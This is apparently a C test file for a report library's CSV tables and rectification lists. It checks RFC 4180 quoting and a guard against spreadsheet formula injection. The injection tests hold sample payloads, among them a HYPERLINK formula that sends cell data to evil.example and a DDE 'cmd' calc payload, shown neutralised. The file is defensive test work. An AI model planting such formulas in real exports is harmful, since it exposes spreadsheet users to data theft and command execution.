/* CSV tables and rectification lists (lib/report/csv.c, tables.c,
 * rectify.c): the record writer's quoting byte by byte, each table against
 * its golden file on the Langao sample, every table read back by a strict
 * RFC 4180 reader, hostile names, reasons and evidence (the formula guard
 * and quoting), a result that keeps no reasons, a write callback failing at
 * every call, and misuse. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "eval/eval.h"
#include "report/csv.h"
#include "report/report_util.h"
#include "report_support.h"
#include "testutil.h"

/* --- runs (the sink and run_file: report_support.h) --------------------------------- */

static int run_fx(run *x, int zero) {
  return run_file(x, "fixtures/eval/fx.yaml", "fixtures/eval/fx.jsonl", "fx.jsonl", zero);
}

/* The text of a table or a rectification list (`table` 0: the list of
   `unit`), through pieces of `chunk` bytes; NULL on failure. free() it. */
static char *write_table(const govopen_result *r, int table, size_t unit, unsigned flags, size_t chunk, size_t *len) {
  sink s = {0};
  int rc = table ? gv_result_write_csv(r, table, flags, chunk, sink_write, &s)
                 : gv_result_write_rectify(r, unit, flags, chunk, sink_write, &s);
  return sink_text(&s, rc, chunk, len);
}

/* --- a strict RFC 4180 reader ---------------------------------------------------------- */

/* Records of fields, every record ended by CRLF; a field is either plain
   (no comma, quote, CR or LF) or quoted (quotes doubled inside). */
typedef struct csv_doc {
  char **fields;
  size_t nfields, fcap;
  size_t *ends; /* record i: fields [ends[i-1], ends[i]) */
  size_t nrecords, rcap;
} csv_doc;

static void csv_doc_free(csv_doc *d) {
  for (size_t i = 0; i < d->nfields; i++) free(d->fields[i]);
  free(d->fields);
  free(d->ends);
  memset(d, 0, sizeof *d);
}

static int push_field(csv_doc *d, const char *s, size_t n) {
  if (d->nfields == d->fcap) {
    size_t cap = d->fcap ? d->fcap * 2 : 64;
    char **f = realloc(d->fields, cap * sizeof *f);
    if (f == NULL) return -1;
    d->fields = f;
    d->fcap = cap;
  }
  char *copy = malloc(n + 1);
  if (copy == NULL) return -1;
  memcpy(copy, s, n);
  copy[n] = '\0';
  d->fields[d->nfields++] = copy;
  return 0;
}

static int push_record(csv_doc *d) {
  if (d->nrecords == d->rcap) {
    size_t cap = d->rcap ? d->rcap * 2 : 64;
    size_t *e = realloc(d->ends, cap * sizeof *e);
    if (e == NULL) return -1;
    d->ends = e;
    d->rcap = cap;
  }
  d->ends[d->nrecords++] = d->nfields;
  return 0;
}

/* 0, or -1 where the text breaks RFC 4180 (or memory ran out). */
static int csv_parse(const char *s, size_t n, csv_doc *d) {
  memset(d, 0, sizeof *d);
  const char *p = s, *end = s + n;
  char *buf = malloc(n + 1);
  if (buf == NULL) return -1;
  while (p < end) {
    size_t k = 0;
    if (*p == '"') {
      for (p++;; p++) {
        if (p == end) goto bad;
        if (*p == '"') {
          if (p + 1 < end && p[1] == '"') {
            buf[k++] = '"';
            p++;
            continue;
          }
          p++;
          break;
        }
        buf[k++] = *p;
      }
    } else {
      while (p < end && *p != ',' && *p != '\r') {
        if (*p == '"' || *p == '\n') goto bad;
        buf[k++] = *p++;
      }
    }
    if (push_field(d, buf, k) != 0) goto bad;
    if (p < end && *p == ',') {
      p++;
      if (p == end) goto bad;
      continue;
    }
    if (end - p < 2 || p[0] != '\r' || p[1] != '\n') goto bad;
    p += 2;
    if (push_record(d) != 0) goto bad;
  }
  free(buf);
  return 0;
bad:
  free(buf);
  return -1;
}

static size_t record_fields(const csv_doc *d, size_t rec) { return d->ends[rec] - (rec ? d->ends[rec - 1] : 0); }

static const char *field(const csv_doc *d, size_t rec, size_t col) {
  size_t first = rec ? d->ends[rec - 1] : 0;
  return first + col < d->ends[rec] ? d->fields[first + col] : NULL;
}

/* A number as the writer formats scores and counts. */
static int is_number(const char *s) {
  if (*s == '-') s++;
  if (*s < '0' || *s > '9') return 0;
  while (*s >= '0' && *s <= '9') s++;
  if (*s == '.') {
    s++;
    int digits = 0;
    while (*s >= '0' && *s <= '9') s++, digits++;
    if (digits < 1 || digits > 2) return 0;
  }
  return *s == '\0';
}

/* Reads `text` (after its byte order mark when `bom`) as RFC 4180 with
   every record as wide as the header, and checks the formula guard: no
   field begins with = + - @ TAB or CR unless it is a number we wrote. */
static void check_table(const char *text, size_t len, int bom, csv_doc *d) {
  if (bom) {
    CU_ASSERT_FATAL(len >= 3 && memcmp(text, "\xEF\xBB\xBF", 3) == 0);
    text += 3;
    len -= 3;
  } else {
    CU_ASSERT(len < 3 || memcmp(text, "\xEF\xBB\xBF", 3) != 0);
  }
  CU_ASSERT_EQUAL_FATAL(csv_parse(text, len, d), 0);
  CU_ASSERT_FATAL(d->nrecords >= 1);
  for (size_t i = 0; i < d->nrecords; i++) CU_ASSERT_EQUAL(record_fields(d, i), record_fields(d, 0));
  for (size_t i = 0; i < d->nfields; i++) {
    const char *f = d->fields[i];
    if (strchr("=+-@\t\r", f[0]) != NULL && f[0] != '\0') {
      CU_ASSERT(is_number(f));
      if (!is_number(f)) fprintf(stderr, "unguarded field: %s\n", f);
    }
  }
}

/* --- tests ------------------------------------------------------------------------------- */

static void test_table_names(void) {
  static const char *const names[] = {"rankings", "scorecards", "indicators", "rectify", "county", "adjustments"};
  CU_ASSERT_EQUAL(GOVOPEN_TABLE_RANKINGS, 1);
  CU_ASSERT_EQUAL(GOVOPEN_TABLE_COUNTY, 5);
  CU_ASSERT_EQUAL(GOVOPEN_TABLE_ADJUSTMENTS, 6);
  for (int t = 1; t <= 6; t++) CU_ASSERT_STRING_EQUAL(govopen_table_name(t), names[t - 1]);
  CU_ASSERT_PTR_NULL(govopen_table_name(0));
  CU_ASSERT_PTR_NULL(govopen_table_name(7));
  CU_ASSERT_PTR_NULL(govopen_table_name(-1));
}

/* RFC 4180 quoting and the formula guard, field by field. */
static void test_fields(void) {
  static const struct {
    const char *in, *out;
  } cases[] = {
      {"plain", "plain"},
      {"", ""},
      {"中文 内 空格", "中文 内 空格"},
      {"a,b", "\"a,b\""},
      {"say \"hi\"", "\"say \"\"hi\"\"\""},
      {"\"", "\"\"\"\""},
      {"line\nbreak", "\"line\nbreak\""},
      {"cr\rlf", "\"cr\rlf\""},
      {" lead", "\" lead\""},
      {"trail ", "\"trail \""},
      {" ", "\" \""},
      {"tab\tinside", "tab\tinside"},
      {"=1+1", "'=1+1"},
      {"+1", "'+1"},
      {"-1", "'-1"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"\t=1", "'\t=1"},
      {"\r=1", "\"'\r=1\""},
      {"=A1,B1", "\"'=A1,B1\""},
      {"=\"x\"", "\"'=\"\"x\"\"\""},
      {"'=1", "'=1"},
      {"a=1", "a=1"},
      {"＝1", "＝1"},
  };
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    sink s = {0};
    gv_csv w;
    CU_ASSERT_EQUAL_FATAL(gv_csv_init(&w, 0, 0, sink_write, &s), GOVOPEN_OK);
    gv_csv_text(&w, cases[i].in);
    gv_csv_end(&w);
    CU_ASSERT_EQUAL(gv_csv_finish(&w), GOVOPEN_OK);
    char want[64];
    snprintf(want, sizeof want, "%s\r\n", cases[i].out);
    CU_ASSERT_PTR_NOT_NULL_FATAL(s.data);
    CU_ASSERT_STRING_EQUAL(s.data, want);
    sink_free(&s);
  }
  /* numbers are ours: never guarded; empty fields; a byte order mark; NULL text */
  sink s = {0};
  gv_csv w;
  CU_ASSERT_EQUAL_FATAL(gv_csv_init(&w, 1, 0, sink_write, &s), GOVOPEN_OK);
  gv_csv_score(&w, -300);
  gv_csv_score(&w, -5);
  gv_csv_score(&w, 9724);
  gv_csv_score(&w, 50);
  gv_csv_uint(&w, 0);
  gv_csv_uint(&w, 18446744073709551615u);
  gv_csv_empty(&w);
  gv_csv_text(&w, NULL);
  gv_csv_empty(&w);
  gv_csv_end(&w);
  gv_csv_text(&w, "a");
  gv_csv_text(&w, "b c");
  gv_csv_text(&w, "d,e");
  gv_csv_end(&w);
  CU_ASSERT_EQUAL(gv_csv_finish(&w), GOVOPEN_OK);
  CU_ASSERT_STRING_EQUAL(s.data, "\xEF\xBB\xBF-3,-0.05,97.24,0.5,0,18446744073709551615,,,\r\na,b c,\"d,e\"\r\n");
  sink_free(&s);
  /* a record left open is misuse */
  CU_ASSERT_EQUAL_FATAL(gv_csv_init(&w, 0, 0, sink_write, &s), GOVOPEN_OK);
  gv_csv_text(&w, "x");
  CU_ASSERT_EQUAL(gv_csv_finish(&w), GOVOPEN_EINVALID);
  sink_free(&s);
}

/* Each table of the Langao sample, byte for byte its golden file under
   tests/data/csv/ (with a byte order mark, Chinese headers); without the
   mark the same bytes after it; read back as RFC 4180, every record as
   wide as the header. The golden files were written by `govopen report`
   and checked by an independent reader (bindings/python/tests/test_report.py:
   Python's csv module, the numbers against the result's getters). */
static void test_golden(void) {
  static const char *const en_headers[] = {
      NULL,
      "kind,rank,unit_id,unit,total,raw,possible,grade,vetoed,maximum,normalised,points_lost,rounding,adjustments,"
      "clamp,lost_total,coverage_percent,points_evaluated,points_applicable,low_coverage\r\n",
      "unit_id,unit,point_id,indicator_id,point,status,score,max,lost,samples,judged,lost_of_total\r\n",
      "unit_id,unit,indicator_id,level,indicator,score,possible,max\r\n",
      "unit_id,unit,unit_total,rank,item,point_id,indicator_id,indicator,point,status,score,max,lost,reason_codes,"
      "reasons,evidence,notes\r\n",
      "type,id,name,level,score,possible,max,grade,evidence,lost_of_total,coverage_percent,points_evaluated,"
      "points_applicable\r\n",
      "scope,unit_id,unit,adjustment_id,adjustment,delta,applied,not_applied,date,evidence,note\r\n"};
  static const char *const zh_headers[] = {
      NULL,
      "类别,名次,单位编号,单位,总分,得分,已评估满分,等次,一票否决,满分,折算得分,评估点失分,舍入,加减分,封顶,共失,"
      "覆盖率(%),已评估点数,适用点数,覆盖不足\r\n",
      "单位编号,单位,评估点编号,指标编号,评估点,状态,得分,满分,失分,样本数,已判定数,总分失分\r\n",
      "单位编号,单位,指标编号,层级,指标,得分,已评估满分,满分\r\n",
      "单位编号,单位,单位总分,名次,序号,评估点编号,指标编号,指标,评估点,状态,得分,满分,失分,原因代码,原因,证据,评估人员备注\r\n",
      "类型,编号,名称,层级,得分,已评估满分,满分,等次,证据,总分失分,覆盖率(%),已评估点数,适用点数\r\n",
      "范围,单位编号,单位,加减分编号,加减分,分值,已计入,未计入原因,日期,证据,备注\r\n"};
  run x;
  CU_ASSERT_EQUAL_FATAL(run_langao(&x), 0);
  for (int t = 1; govopen_table_name(t); t++) {
    char rel[64];
    snprintf(rel, sizeof rel, "data/csv/%s.csv", govopen_table_name(t));
    size_t glen = 0, len = 0;
    char *golden = test_read_file(test_path(rel), &glen);
    CU_ASSERT_PTR_NOT_NULL_FATAL(golden);
    char *text = write_table(x.r, t, 0, 0, 0, &len);
    CU_ASSERT_PTR_NOT_NULL_FATAL(text);
    CU_ASSERT_EQUAL(len, glen);
    CU_ASSERT(len == glen && memcmp(text, golden, len) == 0);
    CU_ASSERT(strncmp(text + 3, zh_headers[t], strlen(zh_headers[t])) == 0);
    csv_doc d;
    check_table(text, len, 1, &d);
    CU_ASSERT(d.nrecords > 1);
    csv_doc_free(&d);
    /* the public function gives the same bytes */
    sink s = {0};
    CU_ASSERT_EQUAL(govopen_result_write_csv(x.r, t, 0, sink_write, &s), GOVOPEN_OK);
    CU_ASSERT(s.len == len && memcmp(s.data, text, len) == 0);
    sink_free(&s);
    /* no byte order mark */
    size_t nlen = 0;
    char *nobom = write_table(x.r, t, 0, GOVOPEN_CSV_NO_BOM, 0, &nlen);
    CU_ASSERT(nobom && nlen + 3 == len && memcmp(nobom, text + 3, nlen) == 0);
    free(nobom);
    /* English: the same records, English labels */
    size_t elen = 0;
    char *en = write_table(x.r, t, 0, GOVOPEN_REPORT_LANG_EN | GOVOPEN_CSV_NO_BOM, 0, &elen);
    CU_ASSERT_PTR_NOT_NULL_FATAL(en);
    CU_ASSERT(strncmp(en, en_headers[t], strlen(en_headers[t])) == 0);
    csv_doc de, dz;
    check_table(en, elen, 0, &de);
    check_table(text, len, 1, &dz);
    CU_ASSERT_EQUAL(de.nrecords, dz.nrecords);
    csv_doc_free(&de);
    csv_doc_free(&dz);
    free(en);
    free(text);
    free(golden);
  }
  run_free(&x);
}

/* Every piece size gives the same bytes, UTF-8 sequences and quoted fields
   split anywhere. */
static void test_chunks(void) {
  int (*runs[])(run *) = {run_odd, run_inject};
  for (size_t k = 0; k < sizeof runs / sizeof runs[0]; k++) {
    run x;
    CU_ASSERT_EQUAL_FATAL(runs[k](&x), 0);
    for (int t = 0; t <= 5; t++) {
      size_t units = t ? 1 : govopen_framework_unit_count(x.fw);
      for (size_t u = 0; u < units; u++) {
        size_t wlen = 0;
        char *whole = write_table(x.r, t, u, 0, 0, &wlen);
        CU_ASSERT_PTR_NOT_NULL_FATAL(whole);
        static const size_t chunks[] = {1, 2, 3, 7, 64};
        for (size_t i = 0; i < sizeof chunks / sizeof chunks[0]; i++) {
          size_t plen = 0;
          char *part = write_table(x.r, t, u, 0, chunks[i], &plen);
          CU_ASSERT(part != NULL && plen == wlen && memcmp(part, whole, wlen) == 0);
          free(part);
        }
        free(whole);
      }
    }
    run_free(&x);
  }
}

/* Quotes, backslashes, tabs, CR LF and non-ASCII in names, texts, reasons
   and evidence (tests/fixtures/report/odd.yaml): read back exactly. */
static void test_odd_strings(void) {
  run x;
  CU_ASSERT_EQUAL_FATAL(run_odd(&x), 0);
  size_t len = 0;
  char *text = write_table(x.r, GOVOPEN_TABLE_SCORECARDS, 0, GOVOPEN_CSV_NO_BOM, 0, &len);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  csv_doc d;
  check_table(text, len, 0, &d);
  /* a P1, a P2, b P1, b P2, d P2, d P3 */
  CU_ASSERT_EQUAL_FATAL(d.nrecords, 7);
  CU_ASSERT_STRING_EQUAL(field(&d, 1, 1), "甲\"镇\\");
  CU_ASSERT_STRING_EQUAL(field(&d, 3, 1), "乙\t镇"); /* its CR LF trimmed as a name's */
  CU_ASSERT_STRING_EQUAL(field(&d, 5, 1), "县一局 </script> \xe2\x80\xa8");
  CU_ASSERT_STRING_EQUAL(field(&d, 1, 4), "支持\"IPv6\"");
  CU_ASSERT(strstr(text, ",乙\t镇,") != NULL);
  CU_ASSERT(strstr(text, "\"甲\"\"镇\\\"") != NULL);
  csv_doc_free(&d);
  free(text);
  /* the reasons and the evidence, control characters and all */
  text = write_table(x.r, GOVOPEN_TABLE_RECTIFY, 0, GOVOPEN_CSV_NO_BOM, 0, &len);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  check_table(text, len, 0, &d);
  CU_ASSERT_FATAL(d.nrecords >= 2);
  CU_ASSERT_STRING_EQUAL(field(&d, 1, 0), "a");
  CU_ASSERT_STRING_EQUAL(field(&d, 1, 5), "P1");
  CU_ASSERT_STRING_EQUAL(field(&d, 1, 13), "boolean.false");
  CU_ASSERT_STRING_EQUAL(field(&d, 1, 15), "q\"b\\s/\b\f\n\r\t\x01\x1f é 中 😀 end");
  csv_doc_free(&d);
  free(text);
  /* the adjustment's evidence in the county table */
  text = write_table(x.r, GOVOPEN_TABLE_COUNTY, 0, GOVOPEN_CSV_NO_BOM, 0, &len);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  check_table(text, len, 0, &d);
  CU_ASSERT_STRING_EQUAL(field(&d, 3, 0), "舍入");
  CU_ASSERT_STRING_EQUAL(field(&d, 4, 1), "praise");
  CU_ASSERT_STRING_EQUAL(field(&d, 4, 2), "通报\"表扬\"\\加3分\n第二行");
  CU_ASSERT_STRING_EQUAL(field(&d, 4, 4), "3");
  CU_ASSERT_STRING_EQUAL(field(&d, 4, 8), "证据\"\\\x03\n");
  csv_doc_free(&d);
  free(text);
  run_free(&x);
}

/* Names, titles, reasons and evidence that a spreadsheet would run as
   formulas (tests/fixtures/report/inject.yaml): every such text field gets
   an apostrophe, in every table and language; our numbers (a -3
   adjustment) do not. */
static void test_injection(void) {
  run x;
  CU_ASSERT_EQUAL_FATAL(run_inject(&x), 0);
  for (int t = 1; t <= 6; t++)
    for (unsigned flags = 0; flags <= (GOVOPEN_REPORT_LANG_EN | GOVOPEN_CSV_NO_BOM); flags++) {
      size_t len = 0;
      char *text = write_table(x.r, t, 0, flags, 0, &len);
      CU_ASSERT_PTR_NOT_NULL_FATAL(text);
      csv_doc d;
      check_table(text, len, !(flags & GOVOPEN_CSV_NO_BOM), &d);
      csv_doc_free(&d);
      free(text);
    }
  size_t len = 0;
  char *text = write_table(x.r, GOVOPEN_TABLE_RANKINGS, 0, GOVOPEN_CSV_NO_BOM, 0, &len);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT_STRING_EQUAL(
      text, "类别,名次,单位编号,单位,总分,得分,已评估满分,等次,一票否决,满分,折算得分,评估点失分,舍入,加减分,"
            "封顶,共失,覆盖率(%),已评估点数,适用点数,覆盖不足\r\n"
            "镇,1,minus,'-2+3,100,60,60,,否,100,100,0,0,0,0,0,60,1,2,否\r\n"
            "镇,2,tab,'=制表,50,20,40,,否,100,50,50,0,0,0,50,40,1,2,是\r\n"
            "镇,3,at,'@SUM(1),25,10,40,,否,100,25,75,0,0,0,75,40,1,2,是\r\n"
            "镇,4,eq,'=1+1,0,0,60,,否,100,0,100,0,0,0,100,60,1,2,否\r\n"
            "镇,4,plus,'+SUM(A1:A2),0,0,60,,否,100,0,100,0,0,0,100,60,1,2,否\r\n"
            "镇,,cr,'=回车,,,,,,,,,,,,,0,0,2,\r\n"
            "县政府部门,1,comma,\"逗号,\"\"引号\"\"\",75,30,40,,否,100,75,25,0,0,0,25,100,1,1,否\r\n"
            "县政府部门,2,space,前后空格,0,0,40,,否,100,0,100,0,0,0,100,100,1,1,否\r\n"
            "县政府部门,2,quote,'已有撇号,0,0,40,,是,100,0,100,0,0,0,100,100,2,2,否\r\n");
  free(text);
  text = write_table(x.r, GOVOPEN_TABLE_COUNTY, 0, GOVOPEN_CSV_NO_BOM, 0, &len);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT(strstr(text, "\r\n加减分,criticism,'-3 通报批评,,-3,,,,'=1+2,,,,\r\n") != NULL);
  CU_ASSERT(strstr(text, "\r\n评估点,P1,'-评估点,,20,,60,,,40,,,\r\n") != NULL);
  free(text);
  text = write_table(x.r, GOVOPEN_TABLE_RECTIFY, 0, GOVOPEN_CSV_NO_BOM, 0, &len);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  csv_doc d;
  check_table(text, len, 0, &d);
  CU_ASSERT_STRING_EQUAL(field(&d, 1, 1), "'=1+1");
  CU_ASSERT_STRING_EQUAL(field(&d, 1, 7), "'=指标");
  CU_ASSERT_STRING_EQUAL(field(&d, 1, 15), "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")");
  CU_ASSERT_STRING_EQUAL(field(&d, 3, 15), "'@SUM(1+1)*cmd|' /C calc'!A0");
  csv_doc_free(&d);
  free(text);
  run_free(&x);
}

/* One unit's list, exactly: 佐龙镇 lost most on P78, then P40 (point order
   would put P40 first). */
static void test_rectify_text(void) {
  run x;
  CU_ASSERT_EQUAL_FATAL(run_langao(&x), 0);
  const govopen_unit *u = govopen_framework_unit_find(x.fw, "佐龙镇");
  CU_ASSERT_PTR_NOT_NULL_FATAL(u);
  char *text = write_table(x.r, 0, govopen_unit_index(u), 0, 0, NULL);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  /* the footer names what the result was made from (golden_expand: the version and fingerprint) */
  char *want = golden_expand("整改清单：佐龙镇（zuolong）\n"
                             "岚皋县2023年政务公开工作绩效评估指标任务分解表，截至 2023-12-15\n"
                             "总分 98.98，在各镇中排第 10 名（共 12 个）；已评估满分 41.96，得 41.53\n"
                             "覆盖 100%（评估点 31/31）。\n"
                             "失分的评估点 2 个，共失 1.02 分（满分 100.00）。\n"
                             "\n"
                             "总分核算：\n"
                             "   折算得分 98.98 = 41.53 × 100.00 / 41.96，四舍五入到 0.01（五入远离零）\n"
                             "   满分 100.00 − 共失 1.02 = 总分 98.98\n"
                             "   共失 1.02 = 评估点失分 1.02 + 舍入 0.00 − 加减分 0.00\n"
                             "\n"
                             "1. P78  失 0.24 分（得 0.30，满分 0.54；总分失 0.57）\n"
                             "   指标：五、组织保障 > （十三）机制建设 > 队伍建设 > 工作人员\n"
                             "   评估点：是否配备相对固定的政务公开工作人员\n"
                             "   失分：评估人员给分0.30（满分0.54）：政务公开工作人员年内更换3次，未相对固定\n"
                             "   证据：佐龙镇材料报送：政务公开工作人员名单（示例）\n"
                             "\n"
                             "2. P40  失 0.19 分（得 0.20，满分 0.39；总分失 0.45）\n"
                             "   指标：二、解读回应参与 > (五)公众参与 > 网上咨询回复\n"
                             "   评估点：对公众通过网上咨询栏目提交的留言，是否在5个工作日内答复\n"
                             "   失分：抽查2件，1件超过时限：2023-09-27→2023-10-11（限5个工作日，用时6个工作日）\n"
                             "   证据：https://www.langao.gov.cn/sample-2023/zuolong/p40/0001.html\n"
                             "\n"
                             "指纹 @FP16@（govopen @VERSION@，框架 langao-2023，截至 2023-12-15）\n",
                             x.r, NULL);
  CU_ASSERT_PTR_NOT_NULL_FATAL(want);
  CU_ASSERT_STRING_EQUAL(text, want);
  free(want);
  free(text);
  u = govopen_framework_unit_find(x.fw, "jingmao");
  CU_ASSERT_PTR_NOT_NULL_FATAL(u);
  text = write_table(x.r, 0, govopen_unit_index(u), GOVOPEN_REPORT_LANG_EN, 0, NULL);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT(strncmp(text,
                    "Rectification list: 县经贸局 (jingmao)\n"
                    "岚皋县2023年政务公开工作绩效评估指标任务分解表, as of 2023-12-15\n"
                    "Total 98.21, rank 16 of 19 departments; earned 38.48 of 39.18 evaluated\n"
                    "Coverage 98% (29/30 points).\n"
                    "Lost 1.79 of 100.00 points at 1 evaluation point; 1 point not evaluated (not counted).\n",
                    strlen("Rectification list: ")) == 0);
  CU_ASSERT(strstr(text,
                   "\nTotal 98.21, rank 16 of 19 departments; earned 38.48 of 39.18 evaluated\n"
                   "Coverage 98% (29/30 points).\n"
                   "Lost 1.79 of 100.00 points at 1 evaluation point; 1 point not evaluated (not counted).\n\n"
                   "The total reconciled:\n"
                   "   Normalised 98.21 = 38.48 × 100.00 / 39.18, rounded to the hundredth, halves away from zero\n"
                   "   Maximum 100.00 − lost 1.79 = total 98.21\n"
                   "   Lost 1.79 = points 1.79 + rounding 0.00 − adjustments 0.00\n\n"
                   "1. P19  lost 0.70 (scored 1.41 of 2.11; 1.79 of the total)\n") != NULL);
  CU_ASSERT(strstr(text, "\n   loss: 缺少要素：办公时间、负责人姓名（4/6）\n   evidence: ") != NULL);
  CU_ASSERT(strstr(text, "\n   evidence: https://www.langao.gov.cn/sample-2023/jingmao/p19/0001.html\n\n"
                         "2. P69  not evaluated (max 0.78; not counted)\n   indicator: ") != NULL);
  free(text);
  /* a unit with full marks */
  u = govopen_framework_unit_find(x.fw, "滔河镇");
  text = write_table(x.r, 0, govopen_unit_index(u), 0, 0, NULL);
  CU_ASSERT(text && strstr(text, "\n全部满分，无需整改。\n") != NULL);
  CU_ASSERT(text && strstr(text, "\n1. ") == NULL);
  free(text);
  run_free(&x);
}

/* Vetoed, not scored and not-evaluated units of the fx fixture, both
   policies for points not evaluated; control characters from the input
   shown as spaces; a unit that owns no point. */
static void test_rectify_cases(void) {
  run x;
  CU_ASSERT_EQUAL_FATAL(run_fx(&x, 0), 0);
  char *text = write_table(x.r, 0, 1, 0, 0, NULL); /* 乙镇: P8 vetoed */
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT(strstr(text, "\n总分 0.00，在各镇中排第 2 名（共 2 个，另有 1 个未评估）；已评估满分 38.00，得 0.00\n"
                         "覆盖 42%（评估点 4/10），覆盖不足50%，排名仅供参考。\n") != NULL);
  CU_ASSERT(strstr(text, "\n1. P3  失 20.00 分（得 0.00，满分 20.00；总分失 52.63）\n") != NULL);
  CU_ASSERT(strstr(text, "\n2. P1  失 10.00 分（得 0.00，满分 10.00；总分失 26.32）\n") != NULL);
  CU_ASSERT(strstr(text, "\n4. P8  一票否决，失 3.00 分（满分 3.00；总分失 7.89）\n") != NULL);
  CU_ASSERT(strstr(text, "\n5. P2  未评估（满分 10.00，不计入总分）\n") != NULL);
  CU_ASSERT(strstr(text, "失分的评估点 4 个，共失 100.00 分（满分 100.00）；未评估的评估点 6 个（不计入总分）。\n") !=
            NULL);
  /* vetoed whole: every point it counts lost all, 52.63 + 26.32 + 13.16 + 7.89 = 100.00 */
  CU_ASSERT(strstr(text, "\n   共失 100.00 = 评估点失分 100.00 + 舍入 0.00 − 加减分 0.00\n") != NULL);
  free(text);
  text = write_table(x.r, 0, 0, 0, 0, NULL); /* 甲镇: a grade */
  CU_ASSERT(text && strstr(text, "\n总分 78.52（等次：良好），在各镇中排第 1 名（共 2 个，另有 1 个未评估）；"
                                 "已评估满分 90.00，得 70.67\n覆盖 100%（评估点 10/10）。\n"));
  free(text);
  text = write_table(x.r, 0, 0, GOVOPEN_REPORT_LANG_EN, 0, NULL);
  CU_ASSERT(text && strstr(text, "\nTotal 78.52 (grade 良好), rank 1 of 2 towns (1 more not evaluated); earned 70.67 "
                                 "of 90.00 evaluated\nCoverage 100% (10/10 points).\n"));
  free(text);
  text = write_table(x.r, 0, 2, GOVOPEN_REPORT_LANG_EN, 0, NULL); /* 丙镇: nothing evaluated */
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT(strstr(text, "\nNot scored: no point evaluated.\n10 points not evaluated (not counted).\n\n"
                         "1. P1  not evaluated (max 10.00; not counted)\n") != NULL);
  free(text);
  run_free(&x);

  /* points not evaluated score 0: they lose their maximum, in order */
  CU_ASSERT_EQUAL_FATAL(run_fx(&x, 1), 0);
  text = write_table(x.r, 0, 2, 0, 0, NULL);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT(strstr(text, "\n1. P3  未评估，失 20.00 分（满分 20.00；总分失 22.22）\n") != NULL);
  CU_ASSERT(strstr(text, "\n2. P1  未评估，失 10.00 分（满分 10.00；总分失 11.11）\n") != NULL);
  free(text);
  /* the order, for every unit: most lost first, ties in point order; exactly
     the cells that lost, are vetoed, not evaluated or in error */
  size_t np = govopen_framework_point_count(x.fw);
  gv_rectify_item *items = malloc(np * sizeof *items);
  CU_ASSERT_PTR_NOT_NULL_FATAL(items);
  for (size_t u = 0; u < govopen_framework_unit_count(x.fw); u++) {
    gv_arena scratch = {0};
    long ln = gv_rectify_items(x.r, u, items, &scratch);
    gv_arena_free(&scratch);
    CU_ASSERT_FATAL(ln >= 0);
    size_t n = (size_t)ln, want = 0;
    for (size_t p = 0; p < np; p++) {
      int st = govopen_result_cell_status(x.r, u, p);
      want += st > GOVOPEN_CELL_SCORED ||
              (st == GOVOPEN_CELL_SCORED &&
               govopen_result_cell_score(x.r, u, p) < govopen_point_score(govopen_framework_point(x.fw, p)));
    }
    CU_ASSERT_EQUAL(n, want);
    for (size_t i = 1; i < n; i++)
      CU_ASSERT(items[i - 1].lost > items[i].lost ||
                (items[i - 1].lost == items[i].lost && items[i - 1].point < items[i].point));
  }
  free(items);
  run_free(&x);

  /* control characters and formula text in a plain-text list */
  CU_ASSERT_EQUAL_FATAL(run_inject(&x), 0);
  const govopen_unit *u = govopen_framework_unit_by_id(x.fw, "comma");
  text = write_table(x.r, 0, govopen_unit_index(u), 0, 0, NULL);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT(strstr(text, "   失分：评估人员给分30.00（满分40.00）：a,b \"c\"\\x0d\\x0ad\n") != NULL);
  free(text);
  /* a unit vetoed whole by a point worth nothing: the point is listed too */
  u = govopen_framework_unit_by_id(x.fw, "quote");
  text = write_table(x.r, 0, govopen_unit_index(u), 0, 0, NULL);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT(strstr(text, "\n总分 0.00（一票否决），在县政府各部门中排第 2 名（共 3 个）；已评估满分 40.00，得 0.00\n"
                         "覆盖 100%（评估点 2/2）。\n"
                         "失分的评估点 2 个，共失 100.00 分（满分 100.00）。\n\n"
                         "总分核算：\n"
                         "   折算得分 0.00 = 0.00 × 100.00 / 40.00，四舍五入到 0.01（五入远离零）\n"
                         "   满分 100.00 − 共失 100.00 = 总分 0.00\n"
                         "   共失 100.00 = 评估点失分 100.00 + 舍入 0.00 − 加减分 0.00\n\n"
                         "1. P2  一票否决，失 40.00 分（满分 40.00；总分失 100.00）\n") != NULL);
  CU_ASSERT(strstr(text, "\n2. P3  失 0.00 分（得 0.00，满分 0.00；总分失 0.00）\n") != NULL);
  CU_ASSERT(strstr(text, "\n   证据：-否决证据\n") != NULL);
  free(text);
  u = govopen_framework_unit_by_id(x.fw, "cr");
  text = write_table(x.r, 0, govopen_unit_index(u), 0, 0, NULL);
  CU_ASSERT(text && strncmp(text, "整改清单：=回车（cr）\n", strlen("整改清单：=回车（cr）\n")) == 0);
  free(text);
  run_free(&x);

  /* a unit that owns no point */
  govopen_framework *fw = NULL;
  CU_ASSERT_EQUAL_FATAL(test_load_text("schema: 1\n"
                                       "framework: {id: t, title: T, total: 10, year: 2023, calendar: cn}\n"
                                       "units:\n  - {id: a, name: 甲镇, kind: town}\n"
                                       "  - {id: b, name: 乙镇, kind: town}\n"
                                       "indicators:\n  - title: 一\n    score: 10\n    points:\n"
                                       "      - {id: P1, text: 文, score: 10, sampling: [政府网站], responsible: [a],\n"
                                       "         rule: {kind: boolean}}\n",
                                       &fw, NULL),
                        GOVOPEN_OK);
  govopen_evaluation *ev = NULL;
  govopen_result *r = NULL;
  CU_ASSERT_EQUAL_FATAL(govopen_evaluation_new(&ev, fw, NULL), GOVOPEN_OK);
